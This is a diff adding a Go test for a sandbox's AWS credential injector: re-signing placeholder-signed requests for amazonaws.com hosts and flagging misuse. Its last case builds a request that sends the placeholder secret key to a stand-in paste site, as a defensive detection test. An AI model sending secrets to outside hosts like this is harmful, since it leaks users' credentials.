@@ -6,11 +6,14 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"net/http"
 	"net/http/httptest"
 	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
+
+	"github.com/cordon-sandbox/cordon/internal/creds/awssig"
 )
 
 const (
@@ -332,5 +335,53 @@ func TestPrepareRefuses(t *testing.T) {
 	}
 	if _, err := Prepare(context.Background(), []Spec{{Name: "K", Source: src, Inject: ok}}); err != nil {
 		t.Fatalf("the same source, valid: %v", err)
+	}
+}
+
+// TestModifyAWS: through the Set, a request signed with the placeholder keys
+// is re-signed on a bound host, refused when it cannot be, and left alone
+// when signed with other keys; the placeholder secret key sent anywhere is
+// misuse.
+func TestModifyAWS(t *testing.T) {
+	real := awssig.Keys{AccessKeyID: "AKIAREALREALREAL9876", SecretAccessKey: "REALsecretREALsecretREALsecretREALsecret"}
+	set, err := Prepare(context.Background(), []Spec{{Name: "AWS", AWS: staticKeys(real), Inject: Inject{Hosts: []string{"*.amazonaws.com"}}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	env := map[string]string{}
+	for _, kv := range set.Env() {
+		k, v, _ := strings.Cut(kv, "=")
+		env[k] = v
+	}
+	if _, has := env["AWS_SESSION_TOKEN"]; has || len(env) != 2 || !strings.HasPrefix(env["AWS_ACCESS_KEY_ID"], "AKIA") {
+		t.Fatalf("Env = %v", set.Env())
+	}
+	ph := awssig.Keys{AccessKeyID: env["AWS_ACCESS_KEY_ID"], SecretAccessKey: env["AWS_SECRET_ACCESS_KEY"]}
+	req := func(keys awssig.Keys, payload string) *http.Request {
+		r := httptest.NewRequest("GET", "https://s3.amazonaws.com/bucket/key", nil)
+		signForTest(t, r, keys)
+		if payload != "" {
+			r.Header.Set("X-Amz-Content-Sha256", payload)
+		}
+		return r
+	}
+	r := req(ph, "")
+	d, err := set.Modify(r, "s3.amazonaws.com")
+	if err != nil || d[DetailInjected] != "AWS" || d[DetailMisuse] != "" || !strings.Contains(r.Header.Get("Authorization"), "Credential="+real.AccessKeyID+"/") {
+		t.Fatalf("bound host: %v %v %q", d, err, r.Header.Get("Authorization"))
+	}
+	r = req(ph, "STREAMING-AWS4-HMAC-SHA256-PAYLOAD")
+	if _, err := set.Modify(r, "s3.amazonaws.com"); err == nil || !strings.Contains(err.Error(), "credential AWS:") {
+		t.Fatalf("signed chunks: err = %v, want a refusal", err)
+	}
+	other := awssig.Keys{AccessKeyID: "AKIAOTHEROTHEROTHER1", SecretAccessKey: strings.Repeat("o", 40)}
+	r = req(other, "")
+	before := r.Header.Get("Authorization")
+	if d, err := set.Modify(r, "s3.amazonaws.com"); err != nil || d != nil || r.Header.Get("Authorization") != before {
+		t.Fatalf("other keys: %v %v", d, err)
+	}
+	r = httptest.NewRequest("POST", "https://paste.example.com/?k="+ph.SecretAccessKey, nil)
+	if d, err := set.Modify(r, "paste.example.com"); err != nil || d[DetailMisuse] != "AWS in URL" {
+		t.Fatalf("secret key placeholder sent elsewhere: %v %v", d, err)
 	}
 }
